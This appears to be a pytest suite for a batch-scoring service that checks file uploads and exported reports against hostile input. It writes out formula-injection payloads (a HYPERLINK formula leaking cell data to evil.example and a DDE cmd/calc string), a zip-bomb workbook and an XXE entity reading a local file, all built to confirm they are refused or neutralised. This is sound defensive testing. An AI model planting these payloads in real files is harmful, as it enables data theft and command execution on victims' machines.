"""Batch files as people (and attackers) have them, and reports that cannot carry formulas.

Every hostile file is made here, small: a zip bomb is a sheet of repeated bytes, an
XXE workbook a real one with an entity patched in.
"""

import csv
import io
import json
import re
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from datetime import timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update
from sqlalchemy.exc import OperationalError

from api import batches as batches_module
from api import store
from api.batches import BatchRunner
from api.tables import Batch, ScoreRecord
from engine import workbooks
from engine.batch import run_batch
from engine.errors import BatchFileError
from engine.pool import RowError, UnitRow
from engine.result import UnitRef
from engine.tabular import csv_text, read_units, write_results

from ..conftest import ROOT, build_from, import_units, ruleset_dict, village_submission
from ..test_api_batches import _batch_row, upload, wait_done
from ..test_batch import write_csv

CHINESE = re.compile("[\u4e00-\u9fff]")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
CALC = "=cmd|' /C calc'!A0"
VILLAGE_RULESET = ROOT / "rulesets" / "village-branch-stars.yaml"


def kaoping(*args, cwd=ROOT):
    return subprocess.run(
        [sys.executable, "-m", "api.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=300
    )


def assert_clean_failure(done, *fragments):
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    for fragment in fragments:
        assert fragment in done.stderr, done.stderr


# ---------------------------------------------------------------- reports without formulas


def hostile_report():
    """A report whose every kind of text starts like a formula: unit ids, names and
    parents, grade, dimension and veto titles, quota reasons and error messages."""
    data = ruleset_dict(
        title="=小测试",
        inputs={
            "x": {"type": "number", "title": "X", "min": 0, "max": 100},
            "y": {"type": "number", "title": "Y", "min": 0, "max": 100},
        },
        adjustments=[{"id": "pen", "title": "扣分", "items": [{"id": "p", "title": "-扣", "per": "y", "points": -1}]}],
        vetoes=[{"id": "low", "title": "@否决", "when": "x < 5", "effect": "disqualify"}],
        grades=[{"id": "good", "title": "=1+1", "min": 8}, {"id": "ok", "title": "-一般"}],
        quotas=[{"grade": "good", "max_share": 0.4}],
    )
    data["dimensions"][0]["title"] = "+主维度"
    ruleset = build_from(data)
    rows = [
        UnitRow(2, UnitRef(id=HYPERLINK, name=CALC, parent="@SUM(1+1)"), {"x": 90, "y": 0}),
        UnitRow(3, UnitRef(id="+1+2", name="\t制表", parent="\r回车"), {"x": 95, "y": 0}),
        UnitRow(4, UnitRef(id="-3", name="名\x01字", parent="=A1"), {"x": 60, "y": 20}),
        UnitRow(5, UnitRef(id="v4", name="=2*3", parent=None), {"x": 1, "y": 0}),
    ]
    errors = [RowError(6, "=bad", "=x", "invalid_type", CALC)]
    return run_batch(ruleset, rows, workers=1, read_errors=errors)


def test_the_excel_report_holds_text_cells_only_never_formulas(tmp_path):
    report = hostile_report()
    assert report.summary["quota_moves"]  # the quota reason column is filled
    path = tmp_path / "results.xlsx"
    write_results(report, path)
    workbook = load_workbook(path)
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    results = [[c.value for c in row] for row in workbook["结果"].iter_rows()]
    assert "+主维度" in results[0]
    by_id = {row[1]: row for row in results[1:]}
    assert by_id[HYPERLINK][2:4] == [CALC, "@SUM(1+1)"]
    assert by_id["+1+2"][2:4] == ["\t制表", "\n回车"]  # XML readers end every line with "\n"
    assert by_id["-3"][2] == "名\ufffd字" and isinstance(by_id["-3"][4], int | float)
    assert {"=1+1", "-一般", "@否决", "=小测试: 汇总", CALC, "=bad", "=x"} <= texts
    quota = next(row[-2] for row in results[1:] if row[-2])
    assert quota in texts and any(move["reason"] in texts for move in report.summary["quota_moves"])


def test_the_csv_report_quotes_text_that_would_start_a_formula_but_not_numbers(tmp_path):
    report = hostile_report()
    path = tmp_path / "results.csv"
    write_results(report, path)
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert "'+主维度" in rows[0]
    by_id = {row[1]: row for row in rows[1:]}
    assert by_id["'" + HYPERLINK][2:4] == ["'" + CALC, "'@SUM(1+1)"]
    assert by_id["'+1+2"][2:4] == ["'\t制表", "'\r回车"]
    assert by_id["'-3"][3] == "'=A1" and float(by_id["'-3"][rows[0].index("总分")]) == 0
    assert by_id["v4"][2] == "'=2*3"
    errors = [row for row in rows[1:] if row[rows[0].index("状态")] == "错误"]  # error rows, in row order
    assert (errors[0][0], errors[0][1], errors[0][-2], errors[0][-1]) == ("6", "'=bad", "invalid_type", "'" + CALC)
    for row in rows + errors:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only numbers may start so


def test_negative_numbers_stay_numbers_in_csv_and_only_text_is_quoted():
    assert [csv_text(c) for c in [-2, -0.5, "-2", "x-1", None]] == [-2, -0.5, "'-2", "x-1", None]


# ---------------------------------------------------------------- encodings


def gbk_copy(source, target):
    target.write_bytes(source.read_text(encoding="utf-8").encode("gbk"))
    return target


def test_a_gbk_csv_is_read_by_the_engine_the_cli_and_the_service(tmp_path, village, village_service):
    source = tmp_path / "utf8.csv"
    write_csv(source, 12, titles=True, village=village)
    path = gbk_copy(source, tmp_path / "县里.csv")
    rows, errors = read_units(village.model, path)
    assert len(rows) == 12 and not errors and rows[3].unit == UnitRef(id="v00003", name="村3", parent="镇3")
    done = kaoping("batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "out.csv"), "--workers", "1")
    assert done.returncode == 0, done.stderr
    assert "村3" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    declared = kaoping(
        "batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "b.csv"), "--workers", "1", "--encoding", "gbk"
    )
    assert declared.returncode == 0, declared.stderr
    village_service.app.state.batches.stop()  # scored below in this process, not in a child
    accepted = upload(village_service, path)
    assert accepted.status_code == 202, accepted.text
    runner = BatchRunner(village_service.app.state.sessions, tmp_path / "runner", workers=1)
    assert runner.claim(accepted.json()["id"])
    runner.process(accepted.json()["id"])
    batch = wait_done(village_service, accepted.json()["id"])
    assert (batch["status"], batch["rows"], batch["stored"]) == ("done", 12, 12), batch
    names = village_service.call("GET", f"/batches/{batch['id']}/results?format=json").json()["units"]
    assert {u["unit"]["name"] for u in names} == {f"村{n}" for n in range(12)}


def test_a_declared_encoding_is_used_for_the_whole_file_or_refused_clearly(tmp_path, village, village_service):
    source = tmp_path / "utf8.csv"
    write_csv(source, 3, titles=True, village=village)
    path = gbk_copy(source, tmp_path / "units.csv")
    with path.open("rb") as handle:
        as_utf8 = village_service.call(
            "POST",
            "/rulesets/village-branch-stars/batches?period=2025&encoding=utf-8",
            "submitter",
            files={"file": ("units.csv", handle, "text/csv")},
        )
    assert as_utf8.status_code == 422, as_utf8.text
    assert "units.csv" in as_utf8.json()["detail"] and "第 1 行" in as_utf8.json()["detail"]
    with path.open("rb") as handle:
        unknown = village_service.call(
            "POST",
            "/rulesets/village-branch-stars/batches?period=2025&encoding=latin-1",
            "submitter",
            files={"file": ("units.csv", handle, "text/csv")},
        )
    assert unknown.status_code == 422 and "latin-1" in unknown.json()["detail"]
    with path.open("rb") as handle:
        declared = village_service.call(
            "POST",
            "/rulesets/village-branch-stars/batches?period=2025&encoding=gb18030",
            "submitter",
            files={"file": ("units.csv", handle, "text/csv")},
        )
    assert declared.status_code == 202, declared.text
    with village_service.app.state.sessions() as session:
        assert session.get(Batch, declared.json()["id"]).encoding == "gb18030"
    refused = kaoping("batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "o.csv"), "--encoding", "utf-8")
    assert_clean_failure(refused, "units.csv", "UTF-8")


def test_a_file_whose_later_rows_are_gbk_is_read_whole_as_gb18030(tmp_path, village_service):
    tiny = json.dumps(ruleset_dict(), ensure_ascii=False)
    assert village_service.add_ruleset(tiny).status_code == 201
    early = "".join(f"v{n},c{n},90,1\n" for n in range(20))  # ASCII: as UTF-8 as it is GBK
    later = "".join(f"v{n},村{n},90,是\n" for n in range(20, 30))
    path = tmp_path / "mixed.csv"
    path.write_bytes(f"unit_id,unit_name,x,flag\n{early}".encode() + later.encode("gbk"))
    rows, errors = read_units(build_from(ruleset_dict()).model, path)
    assert len(rows) == 30 and not errors
    assert rows[0].unit.name == "c0" and rows[25].unit.name == "村25" and rows[25].data["flag"] is True
    village_service.app.state.batches.stop()
    with path.open("rb") as handle:
        accepted = village_service.call(
            "POST", "/rulesets/tiny/batches?period=2025", "submitter", files={"file": ("mixed.csv", handle, "text/csv")}
        )
    assert accepted.status_code == 202, accepted.text
    runner = BatchRunner(village_service.app.state.sessions, tmp_path / "runner", workers=1)
    assert runner.claim(accepted.json()["id"])
    runner.process(accepted.json()["id"])
    assert wait_done(village_service, accepted.json()["id"])["stored"] == 30


def test_a_file_in_neither_encoding_is_refused_naming_the_file_row_and_byte(tmp_path, village, village_service):
    path = tmp_path / "乱码.csv"
    path.write_bytes(b"unit_id,collective_income\nv1,1\nv2,\xff\xfe\x80\n")
    with pytest.raises(BatchFileError) as refused:
        read_units(village.model, path)
    message = str(refused.value)
    assert "乱码.csv" in message and "第 3 行" in message and "第 35 字节" in message, message
    assert "UTF-8" in message and "GB18030" in message
    assert_clean_failure(
        kaoping("batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "o.csv")), "乱码.csv", "第 3 行"
    )
    response = upload(village_service, path)
    assert response.status_code == 422 and "乱码.csv" in response.json()["detail"], response.text


# ---------------------------------------------------------------- lines, rows, columns


def with_long_line(source, target, row_index, characters):
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[row_index] = "v-long," + "9" * characters + "\n"
    target.write_text("".join(lines), encoding="utf-8")
    return target


def test_an_overlong_line_is_one_error_row_and_the_rest_is_scored(tmp_path, village, village_service):
    source = tmp_path / "units.csv"
    write_csv(source, 6)
    path = with_long_line(source, tmp_path / "long.csv", 3, 3_000_000)
    rows, errors = read_units(village.model, path)
    assert len(rows) == 5 and [(e.row, e.code) for e in errors] == [(4, "line_too_long")]
    assert "long.csv" in errors[0].message and "第 4 行" in errors[0].message
    done = kaoping("batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "out.csv"), "--workers", "1")
    assert done.returncode == 0, done.stderr
    assert "line_too_long" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")  # error rows in row order
    village_service.app.state.batches.stop()
    accepted = upload(village_service, path)
    assert accepted.status_code == 202, accepted.text
    runner = BatchRunner(village_service.app.state.sessions, tmp_path / "runner", workers=1)
    assert runner.claim(accepted.json()["id"])
    runner.process(accepted.json()["id"])
    batch = wait_done(village_service, accepted.json()["id"])
    assert (batch["status"], batch["rows"], batch["stored"], batch["error_rows"]) == ("done", 6, 5, 1), batch


def test_an_overlong_json_line_is_one_error_row(tmp_path, village):
    path = tmp_path / "units.jsonl"
    good = '{"unit": {"id": "v1"}, "data": {}}\n'
    path.write_text(good + '{"unit": {"id": "v2", "name": "' + "x" * 2_000_000 + '"}}\n' + good, encoding="utf-8")
    rows, errors = read_units(village.model, path)
    assert [r.row for r in rows] == [1] and [(e.row, e.code) for e in errors] == [
        (2, "line_too_long"),
        (3, "duplicate_unit"),
    ]


def test_an_unclosed_quote_is_a_clear_refusal_naming_the_row(tmp_path, village):
    source = tmp_path / "units.csv"
    write_csv(source, 3)
    path = tmp_path / "quote.csv"
    path.write_text(source.read_text(encoding="utf-8") + 'v9,"' + ("9,\n" * 600_000), encoding="utf-8")
    with pytest.raises(BatchFileError) as refused:
        read_units(village.model, path)
    assert "quote.csv" in str(refused.value) and "引号" in str(refused.value)


def test_a_row_beyond_the_column_limit_is_an_error_row_and_a_wide_header_a_refusal(tmp_path, village):
    source = tmp_path / "units.csv"
    write_csv(source, 3)
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[2] = lines[2].rstrip("\n") + "," * 1500 + "x\n"
    path = tmp_path / "wide.csv"
    path.write_text("".join(lines), encoding="utf-8")
    rows, errors = read_units(village.model, path)
    assert len(rows) == 2 and [(e.row, e.code) for e in errors] == [(3, "too_many_columns")]
    header = tmp_path / "header.csv"
    header.write_text("unit_id" + "," * 1200 + "x\nv1\n", encoding="utf-8")
    with pytest.raises(BatchFileError, match="1,201 列"):
        read_units(village.model, header)


# ---------------------------------------------------------------- hostile workbooks


def small_workbook(path, village, rows=2):
    source = path.with_suffix(".source.csv")
    write_csv(source, rows)
    workbook = Workbook()
    sheet = workbook.active
    for cells in csv.reader(source.open(encoding="utf-8")):
        sheet.append(cells)
    workbook.save(path)
    return path


def with_prolog(data, extra):
    """The XML with `extra` where a DTD goes: after the declaration, if there is one."""
    if data.startswith(b"<?xml"):
        declaration, rest = data.split(b"?>", 1)
        return declaration + b"?>" + extra + rest
    return extra + data


def patched(path, part, change, target):
    """A copy of the workbook with one part's XML changed (or written by `change`)."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == part:
                change(copy, info.filename, data)
            else:
                copy.writestr(info, data)
    return target


def test_a_zip_bomb_workbook_is_refused_before_it_is_inflated(tmp_path, village, village_service):
    plain = small_workbook(tmp_path / "plain.xlsx", village)

    def bomb(archive, name, data):
        with archive.open(name, "w", force_zip64=True) as part:
            for _ in range(64):
                part.write(b" " * 1024 * 1024)  # whitespace before the root: still well-formed
            part.write(data)

    path = patched(plain, "xl/worksheets/sheet1.xml", bomb, tmp_path / "炸弹.xlsx")
    assert path.stat().st_size < 1024 * 1024
    with pytest.raises(BatchFileError, match="炸弹.xlsx.*压缩比"):
        read_units(village.model, path)
    assert_clean_failure(kaoping("batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "o.xlsx")), "炸弹.xlsx")
    response = upload(village_service, path)
    assert response.status_code == 422 and "炸弹.xlsx" in response.json()["detail"], response.text


def test_a_workbook_inflating_beyond_the_size_limit_is_refused(tmp_path, village, monkeypatch):
    path = small_workbook(tmp_path / "units.xlsx", village)
    monkeypatch.setattr(workbooks, "MAX_UNCOMPRESSED_BYTES", 20_000)
    with pytest.raises(BatchFileError, match="units.xlsx 解压后共"):
        read_units(village.model, path)


def test_a_sheet_declaring_16384_columns_is_refused_at_once(tmp_path, village, village_service):
    plain = small_workbook(tmp_path / "plain.xlsx", village)

    def wide(archive, name, data):
        archive.writestr(name, re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD2000"', data))

    path = patched(plain, "xl/worksheets/sheet1.xml", wide, tmp_path / "wide.xlsx")
    started = time.monotonic()
    response = upload(village_service, path)
    assert response.status_code == 422 and "16,384 列" in response.json()["detail"], response.text
    assert time.monotonic() - started < 10


def test_a_sheet_row_with_a_cell_beyond_the_column_limit_is_an_error_row(tmp_path, village):
    plain = small_workbook(tmp_path / "plain.xlsx", village, rows=3)

    def far_cell(archive, name, data):
        data = re.sub(rb"<dimension [^>]*/>", b"", data)  # no declared range to go by
        far = b'<c r="ALZ3" t="inlineStr"><is><t>x</t></is></c></row>'
        rows = data.split(b"</row>")
        rows[2] = rows[2] + far[: -len(b"</row>")]
        archive.writestr(name, b"</row>".join(rows))

    path = patched(plain, "xl/worksheets/sheet1.xml", far_cell, tmp_path / "far.xlsx")
    rows, errors = read_units(village.model, path)
    assert [r.row for r in rows] == [2, 4] and [(e.row, e.code) for e in errors] == [(3, "too_many_columns")]


def test_two_cells_a_sheet_apart_are_refused_before_the_reader_allocates_the_span(tmp_path, village, village_service):
    """calamine allocates a sheet's whole span at once: A1 and XFD1048576 would ask for half a
    terabyte and abort the process, so the span is measured from the XML first."""
    plain = small_workbook(tmp_path / "plain.xlsx", village)

    def far_apart(archive, name, data):
        far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        archive.writestr(name, re.sub(rb"<dimension [^>]*/>", b"", data).replace(b"</sheetData>", far))

    path = patched(plain, "xl/worksheets/sheet1.xml", far_apart, tmp_path / "稀疏.xlsx")
    with pytest.raises(BatchFileError, match="稀疏.xlsx 的工作表有 1,048,576 行 × 16,384 列"):
        read_units(village.model, path)
    response = upload(village_service, path)
    assert response.status_code == 422 and "16,384 列" in response.json()["detail"], response.text
    assert village_service.client.get("/healthz").status_code == 200  # the process lived


def test_a_workbook_with_a_damaged_part_is_refused_naming_the_file(tmp_path, village, village_service):
    plain = small_workbook(tmp_path / "plain.xlsx", village)
    data = bytearray(plain.read_bytes())
    with zipfile.ZipFile(plain) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    start = sheet.header_offset + 30 + len(sheet.filename) + len(sheet.extra)  # its compressed bytes
    for offset in range(start + 10, start + 30):
        data[offset] ^= 0xFF
    path = tmp_path / "损坏.xlsx"
    path.write_bytes(bytes(data))
    with pytest.raises(BatchFileError, match="损坏.xlsx"):
        read_units(village.model, path)
    response = upload(village_service, path)
    assert response.status_code == 422 and "损坏.xlsx" in response.json()["detail"], response.text


def test_whole_numbers_read_as_written_whatever_the_cell_type(tmp_path, village):
    path = small_workbook(tmp_path / "plain.xlsx", village)
    workbook = load_workbook(path)
    sheet = workbook.active
    sheet["A2"] = 7  # a numeric unit code stays "7", not "7.0"
    workbook.save(path)
    rows, errors = read_units(village.model, path)
    assert not errors and rows[0].unit.id == "7"
    assert all(not isinstance(value, float) for row in rows for value in row.data.values())


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_an_xxe_workbook_reads_no_local_file_and_is_refused(tmp_path, village, village_service, part):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-42", encoding="utf-8")
    plain = small_workbook(tmp_path / "plain.xlsx", village)
    entity = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode()

    def xxe(archive, name, data):
        archive.writestr(name, with_prolog(data, entity).replace(b"v00000", b"&xxe;"))

    path = patched(plain, part, xxe, tmp_path / "xxe.xlsx")
    with pytest.raises(BatchFileError, match="xxe.xlsx"):
        read_units(village.model, path)
    done = kaoping("batch", str(VILLAGE_RULESET), str(path), "-o", str(tmp_path / "o.xlsx"))
    assert_clean_failure(done, "xxe.xlsx")
    assert "TOPSECRET" not in done.stdout + done.stderr
    response = upload(village_service, path)
    assert response.status_code == 422 and "TOPSECRET" not in response.text, response.text


# ---------------------------------------------------------------- failures people can read


@pytest.mark.parametrize(
    "error",
    [
        OperationalError("UPDATE batches SET scored=? WHERE batches.id = ?", {}, Exception("database is locked")),
        MemoryError(),
    ],
    ids=["database", "memory"],
)
def test_a_failed_batch_says_why_in_chinese_without_sql(village_service, tmp_path, monkeypatch, error):
    village_service.app.state.batches.stop()
    source = tmp_path / "units.csv"
    write_csv(source, 5)
    batch_id = _batch_row(village_service, None, None, source.read_bytes(), status="queued")

    def broken(*_args, **_kwargs):
        raise error

    monkeypatch.setattr(batches_module, "run_batch", broken)
    runner = BatchRunner(village_service.app.state.sessions, tmp_path / "runner", workers=1)
    assert runner.claim(batch_id)
    runner.process(batch_id)
    batch = village_service.call("GET", f"/batches/{batch_id}", "auditor").json()
    assert batch["status"] == "failed" and CHINESE.search(batch["failure"] or ""), batch
    assert not re.search(r"UPDATE|SELECT|INSERT|WHERE|batches\.", batch["failure"])


# ---------------------------------------------------------------- one batch, one process


def queued_batch(service, tmp_path, count=20):
    service.app.state.batches.stop()
    source = tmp_path / "units.csv"
    write_csv(source, count)
    return _batch_row(service, None, None, source.read_bytes(), status="queued")


def test_of_two_runners_claiming_one_batch_exactly_one_wins(village_service, tmp_path):
    batch_id = queued_batch(village_service, tmp_path)
    sessions = village_service.app.state.sessions
    runners = [BatchRunner(sessions, tmp_path / f"r{n}", workers=1) for n in range(4)]
    start = threading.Barrier(len(runners))
    won = []

    def claim(runner):
        start.wait()
        won.append(runner.claim(batch_id))

    threads = [threading.Thread(target=claim, args=(r,)) for r in runners]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(won) == [False, False, False, True]


def slow_reading(monkeypatch, seconds, meanwhile=lambda: None):
    real = batches_module.parse_file

    def slow(*args):
        time.sleep(seconds)
        meanwhile()
        return real(*args)

    monkeypatch.setattr(batches_module, "parse_file", slow)


def test_a_lease_is_kept_while_a_long_file_is_read(village_service, tmp_path, monkeypatch):
    batch_id = queued_batch(village_service, tmp_path)
    sessions = village_service.app.state.sessions
    first = BatchRunner(sessions, tmp_path / "first", workers=1, lease_seconds=1)
    second = BatchRunner(sessions, tmp_path / "second", workers=1, lease_seconds=1)
    slow_reading(monkeypatch, 3)
    assert first.claim(batch_id)
    working = threading.Thread(target=first.process, args=(batch_id,))
    working.start()
    time.sleep(2)  # twice the lease: only its renewal keeps it
    assert not second.claim(batch_id)
    working.join()
    batch = wait_done(village_service, batch_id)
    assert (batch["status"], batch["stored"]) == ("done", 20)


def test_a_runner_whose_lease_was_taken_over_stops_writing(village_service, tmp_path, monkeypatch):
    batch_id = queued_batch(village_service, tmp_path)
    sessions = village_service.app.state.sessions

    def taken_over():
        with sessions() as session:
            session.execute(
                update(Batch)
                .where(Batch.id == batch_id)
                .values(lease_owner="another-runner", lease_until=store.now() + timedelta(hours=1))
            )
            session.commit()

    slow_reading(monkeypatch, 0, meanwhile=taken_over)
    runner = BatchRunner(sessions, tmp_path / "frozen", workers=1)
    assert runner.claim(batch_id)
    runner.process(batch_id)
    with sessions() as session:
        batch = session.get(Batch, batch_id)
        assert (batch.status, batch.rows, batch.failure, batch.lease_owner) == ("queued", 30, None, "another-runner")
        assert not list(session.scalars(select(ScoreRecord.id).where(ScoreRecord.batch_id == batch_id)))


# ---------------------------------------------------------------- uploads during score traffic


TRAFFIC = 1000  # units each scoring thread may score


def test_uploads_are_accepted_while_scores_are_being_written(village_service, tmp_path):
    village_service.app.state.batches.stop()  # the uploads stay queued: only their acceptance is tested
    path = tmp_path / "units.csv"
    write_csv(path, 30)
    content = path.read_bytes()
    stop = threading.Event()
    scored = []
    tree = tmp_path / "traffic-units.csv"  # the scores are official: one unit of the tree each
    tree.write_text(
        "编码,名称,类型,上级编码\n" + "".join(f"w{w}-{n},村{n},村,cgz\n" for w in range(6) for n in range(TRAFFIC)),
        encoding="utf-8",
    )
    import_units(village_service.app.state.sessions, tree)

    def scoring(worker):
        n = 0
        while not stop.is_set() and n < TRAFFIC:
            body = village_submission()
            body["unit"] = {"id": f"w{worker}-{n}", "name": f"村{n}"}
            body["period"] = "2025"
            response = village_service.call("POST", "/rulesets/village-branch-stars/scores", "submitter", json=body)
            scored.append(response.status_code)
            n += 1

    traffic = [threading.Thread(target=scoring, args=(w,)) for w in range(6)]
    for thread in traffic:
        thread.start()
    try:
        time.sleep(0.5)
        uploads = []

        def uploading(_):
            for _ in range(5):
                uploads.append(
                    village_service.call(
                        "POST",
                        "/rulesets/village-branch-stars/batches?period=2025",
                        "submitter",
                        files={"file": (f"{uuid.uuid4().hex}.csv", io.BytesIO(content), "text/csv")},
                    ).status_code
                )

        senders = [threading.Thread(target=uploading, args=(s,)) for s in range(3)]
        for thread in senders:
            thread.start()
        for thread in senders:
            thread.join()
    finally:
        stop.set()
        for thread in traffic:
            thread.join()
    assert uploads == [202] * 15
    assert len(scored) > 15 and set(scored) == {201}
